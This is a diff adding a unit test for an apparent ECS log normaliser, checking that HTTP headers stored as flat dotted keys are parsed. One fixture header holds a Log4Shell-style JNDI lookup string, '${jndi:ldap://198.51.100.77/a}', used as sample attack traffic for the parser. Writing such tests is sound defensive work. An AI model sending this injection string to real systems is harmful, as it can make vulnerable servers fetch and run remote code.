@@ -350,6 +350,40 @@ describe('ecs normaliser', () => {
       ip: '198.51.100.9',
     })
   })
+
+  it('reads headers a shipper wrote as flat keys of their own, at any level', () => {
+    const r = ok(
+      JSON.stringify({
+        'url.original': '/v2/ping',
+        'source.ip': '203.0.113.66',
+        'http.request.headers.x-api-version': '${jndi:ldap://198.51.100.77/a}',
+        'http.request.headers.Authorization': 'Bearer abc',
+        http: { 'request.headers.x-trace': 't1', request: { 'headers.x-b3': 'b1' } },
+      }),
+    )
+    expect(r.headers).toEqual(
+      expect.arrayContaining([
+        { name: 'x-api-version', value: '${jndi:ldap://198.51.100.77/a}' },
+        { name: 'authorization', value: 'Bearer abc' },
+        { name: 'x-trace', value: 't1' },
+        { name: 'x-b3', value: 'b1' },
+      ]),
+    )
+    // Headers kept as an object and as flat keys beside it are both read.
+    const both = ok(
+      JSON.stringify({
+        'url.original': '/',
+        http: { request: { headers: { accept: 'text/html' } } },
+        'http.request.headers.referer': 'https://r.example/',
+      }),
+    )
+    expect(both.headers).toEqual(
+      expect.arrayContaining([
+        { name: 'accept', value: 'text/html' },
+        { name: 'referer', value: 'https://r.example/' },
+      ]),
+    )
+  })
 })
 
 describe('a source declared as one JSON format carrying the other', () => {
